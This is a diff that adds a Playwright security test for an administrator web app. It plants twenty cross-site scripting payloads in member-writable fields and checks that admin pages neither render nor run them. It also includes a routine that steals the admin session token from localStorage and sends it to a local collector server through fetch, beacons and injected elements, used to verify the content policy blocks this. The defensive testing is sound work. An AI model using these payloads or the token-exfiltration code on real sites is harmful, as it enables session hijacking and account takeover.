@@ -1,0 +1,250 @@
+import { randomBytes, randomUUID } from 'node:crypto'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, test, type BrowserContext, type Page } from '@playwright/test'
+import { administratorPages } from '../pages'
+import {
+  administratorBrowser,
+  createMember,
+  requestDeposit,
+  send,
+  setWallet,
+  signedIn,
+  type Account,
+} from '../people'
+import { administratorKey, administratorSession, need } from '../stack'
+
+// Whatever a person types is text to everybody who reads it. Every payload stands in every field that members
+// write, and every administrators' page is opened: with the content policy, and without it, so that the policy is
+// not what saves a page. A payload that became an element would be found by its id, one that ran by its dialog.
+// threats: T67 T111
+const payloads = [
+  '<script id=planted>alert(1)</script>',
+  '<img id=planted src=x onerror=alert(1)>',
+  '<svg id=planted onload=alert(1)>',
+  '"><img id=planted src=x onerror=alert(1)>',
+  "'><svg id=planted onload=alert(1)>",
+  '</title><script id=planted>alert(1)</script>',
+  '</textarea><img id=planted src=x onerror=alert(1)>',
+  '<iframe id=planted srcdoc="<script>alert(1)</script>">',
+  '<iframe id=planted src=javascript:alert(1)>',
+  '<a id=planted href=javascript:alert(1)>view</a>',
+  'javascript:alert(1)//planted',
+  'data:text/html,<script>alert(1)</script>',
+  '<details id=planted open ontoggle=alert(1)>',
+  '<input id=planted autofocus onfocus=alert(1)>',
+  '<body id=planted onload=alert(1)>',
+  '<math><mtext id=planted><img src=x onerror=alert(1)>',
+  '{{constructor.constructor("alert(1)")()}}',
+  '${alert(1)}<b id=planted>',
+  '<object id=planted data=javascript:alert(1)>',
+  '<form id=planted><button formaction=javascript:alert(1)>go',
+]
+
+const tag = `xss${randomBytes(3).toString('hex')}`
+const half = payloads.length / 2
+
+async function decide(token: string, deposit: string): Promise<void> {
+  await send(token, 'POST', '/functions/v1/admin-approve-deposit', { depositId: deposit, action: 'approve' })
+}
+
+async function profileOf({ token, userId }: Account): Promise<string> {
+  const [row] = await send<{ id: string }[]>(token, 'GET', `/rest/v1/profiles?select=id&user_id=eq.${userId}`)
+  return row?.id ?? ''
+}
+
+/** A member with $1,100 to withdraw: a VIP package and a full pair of VIP members below it. */
+async function earner(finance: string): Promise<Account> {
+  const account = await signedIn(await createMember(tag))
+  await setWallet(account)
+  await decide(finance, await requestDeposit(account, 1000))
+  const referrer = await profileOf(account)
+  for (let child = 0; child < 2; child++) {
+    const below = await signedIn(await createMember(tag, { referrer }))
+    await setWallet(below)
+    await decide(finance, await requestDeposit(below, 1000))
+  }
+  return account
+}
+
+/** One member for each payload, who writes it wherever a member may write. */
+async function plantAsMember(payload: string, finance: string, index: number): Promise<void> {
+  const account = await signedIn(await createMember(tag, { displayName: payload }))
+  await setWallet(account, payload)
+  const deposit = await requestDeposit(account, 100, `${payload} ${tag}${index}`)
+  await send(account.token, 'POST', '/functions/v1/bot-subscription', {
+    bot_name: 'Scout',
+    action: 'subscribe',
+    mt5_server: payload,
+    mt5_login: payload,
+    mt5_password: payload,
+  })
+  const decision = index % 2 ? { action: 'reject', reason: payload } : undefined
+  if (decision)
+    await send(finance, 'POST', '/functions/v1/admin-approve-deposit', { depositId: deposit, ...decision })
+  await send(finance, 'POST', '/functions/v1/admin-update-member', {
+    profileId: await profileOf(account),
+    admin_notes: payload,
+    reason: payload,
+  })
+}
+
+async function requestWithdrawal(account: Account, payload: string): Promise<void> {
+  await setWallet(account, payload)
+  await send(account.token, 'POST', '/rest/v1/withdrawals', {
+    id: randomUUID(),
+    user_id: account.userId,
+    amount: 100,
+    wallet_address: payload,
+    status: 'pending',
+  })
+}
+
+test.beforeAll(async () => {
+  test.setTimeout(180_000)
+  const { access_token: finance } = await administratorSession(
+    need('DEMO_FINANCE_EMAIL'),
+    need('DEMO_FINANCE_PASSWORD'),
+  )
+  for (const [index, payload] of payloads.entries()) await plantAsMember(payload, finance, index)
+  for (const part of [payloads.slice(0, half), payloads.slice(half)]) {
+    const account = await earner(finance)
+    for (const payload of part) await requestWithdrawal(account, payload)
+  }
+})
+
+/** What a page must not do while it is looked at. */
+function watch(page: Page): string[] {
+  const ran: string[] = []
+  page.on('dialog', (dialog) => {
+    ran.push(`${page.url()}: ${dialog.message()}`)
+    void dialog.dismiss()
+  })
+  return ran
+}
+
+async function plantedElements(page: Page): Promise<number> {
+  return page.locator('#planted').count()
+}
+
+/** Opens whatever a row opens; a page without rows has nothing to open. */
+async function openDetails(page: Page): Promise<number> {
+  const rows = page.getByRole('button', { name: new RegExp(`^${tag}`) })
+  const count = await rows.count()
+  for (let row = 0; row < count; row++) {
+    await rows.nth(row).click()
+    await expect(page.getByRole('dialog')).toBeVisible()
+    expect(await plantedElements(page)).toBe(0)
+    await page.keyboard.press('Escape')
+    await expect(page.getByRole('dialog')).toBeHidden()
+  }
+  return count
+}
+
+/** Opens every page, and with `details` whatever its rows open; nothing may run or become an element. */
+async function walk(context: BrowserContext, details: boolean): Promise<void> {
+  const page = await context.newPage()
+  const ran = watch(page)
+  let opened = 0
+  for (const path of administratorPages) {
+    await page.goto(`${path}${path.includes('?') ? '&' : '?'}q=${tag}`)
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+    await page.waitForLoadState('networkidle')
+    expect.soft(await plantedElements(page), path).toBe(0)
+    if (details) opened += await openDetails(page)
+  }
+  expect(opened).toBeGreaterThanOrEqual(details ? payloads.length : 0)
+  expect(ran).toEqual([])
+  expect(await page.evaluate((key) => localStorage.getItem(key), administratorKey)).toBeTruthy()
+}
+
+test('twenty texts that would be scripts stay texts without a content policy', async ({ browser }) => {
+  test.setTimeout(300_000)
+  const context = await administratorBrowser(browser, { bypassCSP: true })
+  await walk(context, true)
+  await context.close()
+})
+
+test('and with it no page of them breaks', async ({ browser }) => {
+  const context = await administratorBrowser(browser)
+  await walk(context, false)
+  await context.close()
+})
+
+/** What a hole in a page would let in: an element with a handler. */
+async function breakIn(page: Page): Promise<void> {
+  await page.evaluate(() => {
+    document.body.insertAdjacentHTML(
+      'beforeend',
+      '<img id="hole" src="/nothing.png" onerror="alert(document.domain)">',
+    )
+  })
+  await page.waitForTimeout(1000)
+}
+
+/** Somebody else's server; it keeps what it was asked for. */
+async function collector(): Promise<{ address: string; asked: string[]; close: () => void }> {
+  const asked: string[] = []
+  const server = createServer((request, answer) => {
+    asked.push(`${request.method} ${request.url}`)
+    answer.end()
+  })
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
+  const address = `http://127.0.0.1:${(server.address() as AddressInfo).port}`
+  return { address, asked, close: () => server.close() }
+}
+
+/** Every way out that does not leave the page, which a person would see. */
+async function sendAway(page: Page, address: string): Promise<void> {
+  await page.evaluate(
+    async ([elsewhere, key]) => {
+      const token = encodeURIComponent(localStorage.getItem(key) ?? '')
+      await fetch(`${elsewhere}/fetch?${token}`, { mode: 'no-cors' }).catch(() => undefined)
+      navigator.sendBeacon(`${elsewhere}/beacon?${token}`)
+      for (const [kind, attribute] of [
+        ['img', 'src'],
+        ['script', 'src'],
+        ['iframe', 'src'],
+        ['video', 'src'],
+        ['object', 'data'],
+      ] as const) {
+        const element = document.createElement(kind)
+        element.setAttribute(attribute, `${elsewhere}/${kind}?${token}`)
+        document.body.append(element)
+      }
+      const style = document.createElement('link')
+      style.rel = 'stylesheet'
+      style.href = `${elsewhere}/style?${token}`
+      document.head.append(style)
+    },
+    [address, administratorKey] as const,
+  )
+  await page.waitForTimeout(1000)
+}
+
+test('a script let in by a hole does not run, and what runs does not send the token away', async ({
+  browser,
+}) => {
+  const elsewhere = await collector()
+  const loose = await administratorBrowser(browser, { bypassCSP: true })
+  const unguarded = await loose.newPage()
+  const ran = watch(unguarded)
+  await unguarded.goto('/admin/dashboard')
+  await breakIn(unguarded)
+  await sendAway(unguarded, elsewhere.address)
+  expect(ran).toHaveLength(1)
+  expect(elsewhere.asked.length).toBeGreaterThanOrEqual(7)
+  await loose.close()
+  elsewhere.asked.length = 0
+
+  const context = await administratorBrowser(browser)
+  const page = await context.newPage()
+  const guarded = watch(page)
+  await page.goto('/admin/dashboard')
+  await breakIn(page)
+  await sendAway(page, elsewhere.address)
+  expect(guarded).toEqual([])
+  expect(elsewhere.asked).toEqual([])
+  await context.close()
+  elsewhere.close()
+})
